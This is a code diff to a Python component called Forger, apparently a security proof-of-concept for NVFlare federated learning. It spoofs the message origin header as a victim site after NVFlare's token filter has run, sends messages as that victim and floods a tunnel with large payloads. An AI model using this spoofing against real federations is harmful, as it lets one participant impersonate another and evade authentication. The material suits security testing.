@@ -38,10 +38,12 @@ class Forger(FLComponent):
         self._say(cell, "trouble", {"job": "a-job", "sentences": ["said as myself"]})
         time.sleep(1.0)
 
-        def forged(message: Any) -> None:  # a filter comes after the headers
-            message.set_header(MessageHeaderKey.ORIGIN, self.victim)
+        def forged(message: Any) -> None:
+            if message.get_header(MessageHeaderKey.CHANNEL) == CHANNEL:
+                message.set_header(MessageHeaderKey.ORIGIN, self.victim)
 
-        cell.add_outgoing_request_filter(channel=CHANNEL, topic="*", cb=forged)
+        # It comes after the headers, and after NVFlare's own filter, which shows this site's token.
+        cell.add_outgoing_request_filter(channel="*", topic="*", cb=forged)
         self._say(cell, "trouble", {"job": "a-job", "sentences": [f"said as {self.victim}"]})
         self._say(cell, "tunnel", {"connection": "large", "number": 0, "data": b"x" * (1 << 20)})
         for number in range(CONNECTIONS):
